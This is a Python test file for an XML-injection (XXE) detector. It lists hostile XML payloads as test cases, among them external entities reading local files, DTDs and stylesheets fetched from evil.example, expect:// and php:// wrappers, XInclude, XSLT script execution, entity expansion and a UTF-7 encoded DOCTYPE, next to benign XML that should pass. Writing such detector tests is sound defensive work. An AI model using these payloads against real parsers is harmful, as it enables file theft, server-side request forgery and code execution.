"""XML that fetches, expands or runs is found; the documents APIs honestly receive pass."""

from __future__ import annotations

import re

import pytest

from sallygate.controls.injection.judges import xxe
from sallygate.controls.injection.pipeline.evidence import ATTACK, CERTAIN, LIKELY

ATTACKS: list[tuple[str, int]] = [
    ('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///x">]><r>&e;</r>', CERTAIN),
    ('<!DOCTYPE r [<!ENTITY % e SYSTEM "//evil.example/x"> %e;]>', CERTAIN),
    ("<!DOCTYPE r [<!ENTITY e PUBLIC 'any' 'expect://id'>]>", CERTAIN),
    ('<!doctype\nr\t[\n<!entity\ne\nSYSTEM "php://filter/x">]>', CERTAIN),
    ('<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>', CERTAIN),
    ('<!DOCTYPE r [<!ENTITY a "one">]>', ATTACK),
    ("<!DOCTYPE r [<!ELEMENT r ANY>]>", ATTACK),
    ('<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>', ATTACK),
    ('<!DOCTYPE r SYSTEM "x.dtd"><r/>', ATTACK),
    ('<!DOCTYPE r PUBLIC "-//A//B" "http://evil.example/x.dtd">', ATTACK),
    ('<!DOCTYPE r PUBLIC "-//W3C//DTD" "http://www.w3.org@evil.example/x.dtd">', ATTACK),
    ('<!DOCTYPE r PUBLIC "-//W3C//DTD" "http://www.w3.org:x@evil.example/x.dtd">', ATTACK),
    ('<!DOCTYPE r PUBLIC "-//W3C//DTD" "file:///x">', ATTACK),
    ('<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///x"/></r>', CERTAIN),
    ("<xsl:value-of select=\"php:function('go','x')\"/>", CERTAIN),
    ("<xsl:copy-of select=\"document('file:///x')\"/>", CERTAIN),
    ("<xsl:value-of select=\"unparsed-text('file:///x')\"/>", CERTAIN),
    ("<msxsl:script language='JScript'>x</msxsl:script>", CERTAIN),
    ('<xsl:import href="//evil.example/x.xsl"/>', ATTACK),
    ('<?xml-stylesheet type="text/xsl" href="//evil.example/x"?><r/>', LIKELY),
    ("<r><![CDATA[<]]>script<![CDATA[>]]>go()</r>", ATTACK),
    ('<img src="javas]]><![CDATA[cript:go()">', ATTACK),
    ('<svg><image xlink:href="expect://id"/></svg>', ATTACK),
    ('<svg><image href="file:///x"/></svg>', ATTACK),
    ("<r>&secret;</r>", LIKELY),
    ("&secret;", LIKELY),
    (" %secret; ", LIKELY),
    ('<r a="&secret;"/>', LIKELY),
    ('<r xsi:schemaLocation="http://a.example/ http://evil.test/x.xsd"/>', LIKELY),
    ('<r xsi:noNamespaceSchemaLocation="http://evil.test/x.xsd"/>', LIKELY),
    ('<xs:include schemaLocation="http://evil.test/x"/>', LIKELY),
    ("<xml src='x.xml' id=i></xml>", ATTACK - 2),
    ('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AFs-', ATTACK),
    ("  id    ID    #REQUIRED>]>", LIKELY),
    ("a CDATA #Implied > ] >", LIKELY),
]

HONEST = r"""
<!DOCTYPE html><html><body>x</body></html>
<!DOCTYPE html SYSTEM "about:legacy-compat">
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>
<?xml version="1.0" encoding="utf-16"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>
<rss version="2.0"><channel><title>R&amp;D</title><link>https://a.example</link></channel></rss>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="#a"/><image href="https://a.example/x.png"/></svg>
<r><![CDATA[a < b && c > d]]></r>
&nbsp;
&Eacute;
%s;
<a b="&amp;"/>
<a href="?a=1&lang=2">x</a>
<p>&nbsp;</p><p>&copy;</p><p>&Eacute;</p>
<r xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>
<r xsi:schemaLocation="http://www.a.example/ns http://schemas.a.example/x.xsd"/>
<include>x</include>
an entity system in prose
#required > optional
items [a #required] > b
""".strip().split("\n")


@pytest.mark.parametrize(("text", "score"), ATTACKS)
def test_documents_that_reach_out_are_found(text: str, score: int) -> None:
    found = xxe.JUDGE.judge(text, [])
    assert found is not None
    assert found.score >= score
    assert any(re.search(trigger, f"\x1e{text}\x1e", re.IGNORECASE | re.DOTALL) for trigger in xxe.JUDGE.triggers)


@pytest.mark.parametrize("text", HONEST)
def test_documents_of_honest_clients_pass(text: str) -> None:
    found = xxe.JUDGE.judge(text, [])
    assert found is None or found.score < LIKELY


def test_the_suite_holds_the_cases_it_claims() -> None:
    assert (len(ATTACKS), len(HONEST)) == (35, 22)


def test_the_span_holds_the_declaration() -> None:
    text = 'x <!ENTITY e SYSTEM "file:///x"> y'
    found = xxe.JUDGE.judge(text, [])
    assert found is not None
    assert (found.rule, text[found.start : found.end]) == ("external-entity", "<!ENTITY e SYSTEM")


@pytest.mark.parametrize(
    "shape", ["<!ENTITY ", "<!DOCTYPE a [", '<!doctype a "', '<!ENTITY a "&', "<a:include ", "<![CDATA[", 'schemaLocation="a ',
              ">&a;</", '="file:', '<a ="', '="document(', "\u0130<!ENTITY ", "\ud800"],
)  # fmt: skip
def test_hostile_shapes_of_a_whole_window_return(shape: str) -> None:
    text = (shape * 8192)[:8192]
    found = xxe.JUDGE.judge(text, [])
    assert found is None or 0 <= found.start <= found.end <= len(text)
